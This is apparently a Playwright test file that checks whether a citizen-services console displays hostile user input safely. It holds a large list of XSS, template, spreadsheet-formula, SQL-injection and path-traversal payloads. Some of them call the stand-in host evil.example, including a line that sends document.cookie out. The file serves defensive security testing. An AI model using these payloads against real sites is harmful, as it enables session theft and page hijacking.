"""300 hostile texts on the pages of the console: shown verbatim, and nothing comes of them.

Citizens write them in conversations; in requests they stand in labels, and in what officers noted.
Values that are theirs, names and numbers among them, are hidden there, whatever they are.
"""

import itertools
from collections.abc import Iterator, Sequence

import pytest
from msgspec.structs import replace
from playwright.async_api import Page, expect

from bot.console.names import hidden
from bot.console.words import shown
from bot.requests import Form, write_form
from bot.shown import bare
from storage.base import Edge
from tests.bot.console.files import BOOK, hands_in
from tests.bot.console.house import LAN, House
from tests.bot.console.test_browser import Open, office
from tests.bot.demo.conftest import Demo, Eyes, browser, demo, eyes
from tests.bot.demo.hands import write

__all__ = ["browser", "demo", "eyes", "office"]
pytestmark = pytest.mark.asyncio(loop_scope="module")  # one browser for all

SIZE = (1366, 768)
MOST = 300
LONGEST = 4096
KEPT = 1000  # letters of a message that the transcript keeps
IN_A_CHAT = 25
REF = "HS-261123-A7K2M9"
ACTS = (
    "alert(1)",
    "fetch('https://evil.example/'+document.cookie)",
    "import('//evil.example/x.js')",
    "parent.location='https://evil.example'",
    "document.body.innerHTML=''",
)
SHAPES = (
    "<script>{}</script>",
    "<script src=//evil.example/x.js>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg/onload={}>",
    '" autofocus onfocus="{}" x="',
    "' onmouseover='{}",
    "</textarea><script>{}</script>",
    "</title></style></script><script>{}</script>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<style>@import '//evil.example/x.css';*{{background:url(//evil.example/{})}}</style>",
    '<link rel=stylesheet href=//evil.example/x.css data-x="{}">',
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<form action=//evil.example><button>{}</button></form>",
    "<base href=//evil.example/><a href=x>{}</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<div hx-get='/sign-out' hx-trigger=load hx-on::load=\"{}\">",
    "<details open ontoggle={}>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{ {} }}}} {{% import os %}} ${{7*7}} #{{7*7}} <%= 7*7 %>",
    "{{{{ ''.__class__.__mro__ }}}} {}",
    '=HYPERLINK("//evil.example";"{}")',
    "+cmd|'/c {}'!A0",
    "-2+3+{}",
    "@SUM(1+1)*{}",
    "\u202e{}\u202c đảo chiều",
    "\u2066{}\u2069 \u200fphải sang trái",
    "\u200bkhông\u200drộng\ufeff {}",
    "&lt;script&gt;{}&lt;/script&gt; &#x3c;b&#x3e;",
    "%3Cscript%3E{}%3C/script%3E",
    "<!--{}--><![CDATA[<script>{}</script>]]>",
    "'; DROP TABLE audit; -- {}",
    "../../../etc/passwd\\..\\{}.pdf",
    'anh.jpg"; filename="x.html\r\nX: {}',
    "`{}` \\u003cscript\\u003e \\x3cscript\\x3e",
    "Z\u0351\u036b\u0343a\u0310l\u0321g\u0344o {}",
    "<b>đậm</b> <i>{}</i>",
    "\u2028{}\u2029",
    "[bấm](javascript:{}) ![x](//evil.example/x.png)",
)


def payloads() -> list[str]:
    """Every shape with every act, in other letters too, and as long as a message may be."""
    every = [shape.replace("{}", act).replace("{{", "{").replace("}}", "}")
             for act, shape in itertools.product(ACTS, SHAPES)]  # fmt: skip
    louder = [text.upper() for text in every]
    long = [(f"{text} " * LONGEST)[:LONGEST] for text in every[:5]]
    # A word alone that looks like a password is hidden whole; in a sentence it is not.
    return [*long, *(f"{text} là gì ạ" for text in every + louder)][:MOST]


def by_chat() -> Iterator[tuple[str, Sequence[str]]]:
    for place in range(0, MOST, IN_A_CHAT):
        yield f"telegram:{place}", payloads()[place : place + IN_A_CHAT]


def seen(text: str) -> str:
    """How an officer reads it: numbers masked, what is invisible spelled out."""
    return "".join(shown(bare(text[:KEPT])).split())


async def read(page: Page, where: str) -> list[str]:
    """What stands in these elements, as text, blanks aside."""
    texts = await page.locator(where).evaluate_all("all => all.map(one => one.textContent)")
    return ["".join(text.split()) for text in texts]


async def watched(office: Open, eyes: Eyes) -> Page:
    """The browser of a supervisor, who notes every dialog."""
    await office.house.hires("an.nguyen", "supervisor")
    page = await eyes.open(office.url, *SIZE)
    page.on("dialog", lambda dialog: eyes.complaints.append(dialog.message))
    await office.signs_in(page)
    return page


async def test_there_are_enough() -> None:
    """As many as were promised, each another one, some as long as a citizen may write."""
    assert len(set(payloads())) == MOST
    assert max(map(len, payloads())) == LONGEST


async def test_what_citizens_write(office: Open, eyes: Eyes) -> None:
    """Every conversation shows each text to the letter; no dialog, no request to elsewhere."""
    house = office.house
    page = await watched(office, eyes)
    for chat, texts in by_chat():
        await house.hears("gặp cán bộ", chat=chat)
        await page.goto(f"{office.url}/conversation/{hidden(house.parts.key, chat)}")
        # What an officer holds no procedure takes for an answer, which would be hidden whole.
        await page.get_by_role("button", name="Tiếp quản").click()
        await page.get_by_label("Trả lời người dân").wait_for()
        await house.hears(*texts, chat=chat)
        await page.reload()
        words = await read(page, ".words li.citizen bdi")
        missing = [text[:80] for text in texts if seen(text) not in words]
        assert missing == []
        await nothing_came(page)
    await page.goto(f"{office.url}/?view=all")
    await nothing_came(page)


async def test_what_requests_hold(office: Open, eyes: Eyes) -> None:
    """Labels and reasons are shown, values are hidden; a hostile name changes no page."""
    house = office.house
    page = await watched(office, eyes)
    hostile = [text for text in payloads() if len(text) < 200]
    await _hostile_request(house, hostile)
    for path in (f"/dossiers/{REF}", "/dossiers", "/dossiers?view=all"):
        await page.goto(office.url + path)
        await nothing_came(page)
    await page.goto(f"{office.url}/dossiers/{REF}")
    await expect(page.locator("h1")).to_contain_text(REF)
    source = await page.content()
    assert "<script>alert" not in source
    assert "onerror=alert(1)>" not in source.replace("&gt;", "")


async def _hostile_request(house: House, texts: Sequence[str]) -> None:
    """A request whose every text is hostile."""
    row = await hands_in(house, REF, answers={**BOOK, "full_name": texts[0]})
    lines = tuple(text.replace(": ", ":") for text in texts)
    form = write_form(Form({**BOOK, "full_name": texts[0]}, lines=lines))
    now = house.clock.now()
    async with house.store.unit(now=now) as unit:
        await unit.save_dossiers([replace(row, form=form, version=2)])
        await unit.add_edges([Edge(REF, 2, now, "submitted", "in_review", "an.nguyen", texts[1])])
    await house.store.add_members(
        [replace(LAN, bhxh_number="7900000009", national_id="", full_name=texts[0])]
    )


async def test_what_is_searched_for(office: Open, eyes: Eyes) -> None:
    """Whatever stands in the address or the search comes back as text or not at all."""
    page = await watched(office, eyes)
    for text in payloads()[5:15]:
        await page.goto(office.url)
        await page.locator("input[name=q]").first.fill(text.replace("\r\n", " "))
        await page.keyboard.press("Enter")
        await expect(page.locator("h1")).to_have_text("Hộp việc")
    await nothing_came(page)


async def test_the_citizen_s_own_page(demo: Demo, eyes: Eyes) -> None:
    """The demo's page shows what was typed as text, too."""
    page = await eyes.open(demo.url, *SIZE)
    page.on("dialog", lambda dialog: eyes.complaints.append(dialog.message))
    texts = [text.replace("\r\n", " ") for text in payloads()[5:30]]
    for text in texts:
        await write(page, text)
    mine = page.locator(".bubble.mine .text")
    await expect(mine).to_have_count(len(texts))
    shown_there = await read(page, ".bubble.mine .text")
    assert shown_there == ["".join(text.split()) for text in texts]
    await nothing_came(page)


async def nothing_came(page: Page) -> None:
    """No element and no frame that a text has brought in; `eyes` notes requests and dialogs."""
    strange = "script:not([src^='/']), [onerror], [onload], [onfocus], base, object, animate, math"
    assert await page.locator(strange).count() == 0
    home = "/".join(page.url.split("/")[:3])
    ours = (home, "chrome-extension:", "about:blank")  # Chromium shows a PDF by an extension
    # A frame without an address has not begun to load.
    urls = [frame.url for frame in page.frames]
    assert [url for url in urls if url and not url.startswith(ours)] == []
